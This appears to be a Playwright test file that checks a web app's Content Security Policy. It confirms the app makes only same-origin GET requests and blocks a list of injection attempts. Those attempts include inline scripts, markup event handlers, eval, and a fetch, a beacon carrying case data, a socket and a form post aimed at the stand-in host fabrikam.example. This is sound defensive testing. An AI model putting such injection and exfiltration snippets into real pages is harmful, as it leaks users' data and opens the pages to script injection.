// The page is closed: what it is made of comes from its own site, nothing is sent anywhere, and what somebody brings
// into it neither runs nor calls.

import { Robot, facts } from './robot';
import { expect, follow, label, openPage, test, waitUntilKept } from './fixtures';
import { backup, download, wipe } from './storage';
import { CasePage, copied } from './case';
import type { Page } from './fixtures';

/** Notes each act that the page's policy forbids. */
function recordViolations(page: Page) {
  return page.addInitScript(() => {
    (window as any).violations = [];
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      (window as any).violations.push(`${effectiveDirective} ${blockedURI} ${sample}`.trim());
    });
  });
}

const violations = (page: Page): Promise<string[]> => page.evaluate(() => (window as any).violations);

test('a whole case breaks no rule of the policy, and asks nobody but its own site', async ({ page, context }) => {
  test.setTimeout(240_000);
  const requests: { method: string; url: string; body: string | null }[] = [];
  context.on('request', (request) => requests.push({ method: request.method(), url: request.url(), body: request.postData() }));
  await recordViolations(page);
  await page.addInitScript(() => (window.print = () => {}));

  const robot = new Robot(page, facts, ['EXO', 'TEAMS']);
  await robot.start();
  const casePage = new CasePage(page);
  await robot.until(['mail:account-team']);
  await robot.fill();
  await expect(casePage.main()).toHaveAttribute('href', /^mailto:/);
  await casePage.main().click();
  await download(page, casePage.card().locator('[name="save_draft"]'));
  await robot.until(['note:technical-enablement']);
  expect(await copied(page, page.locator('main [name="copy_everything"]'))).toContain('Contoso');
  await robot.until(['closed']);
  await download(page, page.locator('main [name="save_reminder"]').first());
  await casePage.menu('print');
  await casePage.menu('languages');
  await casePage.fill({ mail_language: 'de', note_language: 'ja' });
  expect(await backup(page)).toContain('closeout-backup');
  for (const place of ['#/playbook', '#/settings']) await follow(page, place);
  await waitUntilKept(page);
  await page.locator('main [name="look_for_update"]').click();
  await expect(page.locator('main').getByRole('status').filter({ hasText: label('update-none') })).toBeVisible();
  await wipe(page);

  expect(await violations(page)).toEqual([]);
  const { origin } = new URL(page.url());
  const leaving = requests.filter(({ method, url, body }) =>
    !/^(blob|mailto):/.test(url) && (new URL(url).origin !== origin || method !== 'GET' || body !== null));
  expect(leaving).toEqual([]);
  // Nothing that was stated goes along in an address either, or as a file's name.
  const said = requests.map(({ url }) => decodeURIComponent(url)).filter((url) => !url.startsWith('mailto:'));
  expect(said.filter((url) => Object.values(facts).some((fact) => fact.length > 4 && url.includes(fact)))).toEqual([]);
  console.log(`a whole case: ${requests.length} requests, all of them GET, to ${origin}`);
});

const elsewhere = 'https://fabrikam.example/';

// What a text that came in as markup, or a program that was slipped in, would try.
const attempts: [string, string, string][] = [
  ['a script in the page', 'script-src-elem', `append('script', { textContent: 'window.isBroken = true' })`],
  ['a script of another site', 'script-src-elem', `append('script', { src: '${elsewhere}' })`],
  ['a handler in markup', 'script-src-attr', `main.insertAdjacentHTML('beforeend', '<img src="icon.svg" onload="window.isBroken = true">')`],
  ['text as a program', 'script-src', `try { Function('window.isBroken = true')() } catch {}`],
  ['a style in the page', 'style-src-elem', `append('style', { textContent: 'body { display: none }' })`],
  ['a style in markup', 'style-src-attr', `main.insertAdjacentHTML('beforeend', '<p style="color: red">')`],
  ['a picture of another site', 'img-src', `append('img', { src: '${elsewhere}' })`],
  ['a request', 'connect-src', `fetch('${elsewhere}').catch(() => {})`],
  ['a beacon', 'connect-src', `navigator.sendBeacon('${elsewhere}', 'Contoso')`],
  ['a socket', 'connect-src', `try { new WebSocket('wss://fabrikam.example/') } catch {}`],
  ['a frame', 'frame-src', `append('iframe', { src: '${elsewhere}' })`],
  ['a plug-in', 'object-src', `append('object', { data: '${elsewhere}' })`],
  ['another base for addresses', 'base-uri', `append('base', { href: '${elsewhere}' })`],
  ['a form', 'form-action', `append('form', { action: '${elsewhere}', method: 'post' }).submit()`],
  ['a font', 'font-src', `new FontFace('Fabrikam', 'url(${elsewhere})').load().catch(() => {})`],
  ['a worker', 'worker-src', `try { new Worker('data:text/javascript,') } catch {}`],
];

for (const [what, directive, attempt] of attempts) {
  test(`the policy forbids ${what}`, async ({ page, mishaps }) => {
    mishaps.allow(/Content Security Policy|violates the following|blocked by CSP|Failed to (create|construct)/i);
    // What is held back is listed as a request all the same.
    mishaps.allow(/^request to another origin: https:\/\/fabrikam\.example\//);
    const answers: string[] = [];
    page.on('response', (response) => answers.push(response.url()));
    await recordViolations(page);
    await openPage(page);
    // From a task of the page itself: what the tests' own tools run is not held to its policy.
    await page.evaluate(`
      new Promise((done) => setTimeout(() => {
        const main = document.querySelector('main');
        const append = (name, properties) => {
          const element = Object.assign(document.createElement(name), properties);
          main.append(element);
          return element;
        };
        ${attempt};
        done();
      }))`);
    await expect.poll(() => violations(page)).toContainEqual(expect.stringMatching(new RegExp(`^${directive}( |$)`)));
    expect(await page.evaluate(() => 'isBroken' in window)).toBe(false);
    expect(answers.filter((url) => url.startsWith(elsewhere))).toEqual([]);
    expect(new URL(page.url()).origin).toBe(new URL(test.info().project.use.baseURL!).origin);
  });
}

test('no link tells another site where it was followed', async ({ page }) => {
  await openPage(page, '#/playbook');
  expect(await page.evaluate(() => document.querySelector<HTMLMetaElement>('[name="referrer"]')?.content)).toBe('no-referrer');
  await expect(page.locator('[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /^default-src 'none';/);
  const policy = await page.locator('[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).not.toMatch(/'unsafe-(inline|eval)'/);
});
